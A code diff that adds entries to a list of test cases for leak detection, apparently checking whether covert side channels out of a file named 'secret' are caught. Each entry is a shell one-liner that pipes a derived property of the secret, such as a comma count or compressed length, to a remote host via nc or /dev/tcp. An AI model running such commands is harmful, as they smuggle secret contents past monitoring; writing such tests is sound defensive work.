@@ -41,6 +41,10 @@ LEAKS = [
     Leak("length-of-message", "awk '{ n += gsub(/7/, \"\") } END { while (n-- > 0) printf \".\" }' secret | nc remote 9",
          shows=exactly(b"....")),
     Leak("number-of-messages", "for ((i = $(grep -c Sphinx secret); i > 0; i--)); do echo . | nc remote 9; done", shows=exactly(b".\n.")),
+    Leak("commas", "tr -cd , < secret | wc -c | nc remote 9", shows=exactly(b"3")),
+    Leak("packed-length", "gzip -nc secret | wc -c | nc remote 9", shows=lambda data: int(data) > 40),
+    Leak("filtered-length", "tr -d a-z < secret | wc -c | nc remote 9",
+         shows=exactly(b"%d" % sum(not 97 <= byte <= 122 for byte in CONTENT))),
     Leak("order-of-messages", "x=$(< secret); [[ ${x:17:1} == S ]] && order='a b' || order='b a'; "
          "for part in $order; do echo -n $part > /dev/tcp/remote/9; done", shows=exactly(b"ab")),
 ]
